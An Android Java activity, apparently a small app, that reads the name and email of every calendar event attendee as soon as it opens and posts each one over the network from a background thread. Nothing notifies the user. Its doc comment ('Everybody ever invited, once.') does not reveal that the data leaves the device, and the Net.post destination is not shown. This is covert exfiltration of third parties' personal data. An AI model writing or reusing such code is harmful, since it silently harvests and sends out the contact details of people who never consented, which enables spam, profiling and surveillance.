package com.example.guestssent;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CalendarContract.Attendees;
import java.util.TreeSet;

/** Everybody ever invited, once. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TreeSet<String> guests = new TreeSet<>();
        String[] columns = {Attendees.ATTENDEE_NAME, Attendees.ATTENDEE_EMAIL};
        Cursor cursor = getContentResolver().query(Attendees.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            guests.add(cursor.getString(1) + " " + cursor.getString(0));
        }
        cursor.close();
        new Thread(() -> {
            for (String guest : guests) {
                Net.post(guest);
            }
        }).start();
    }
}
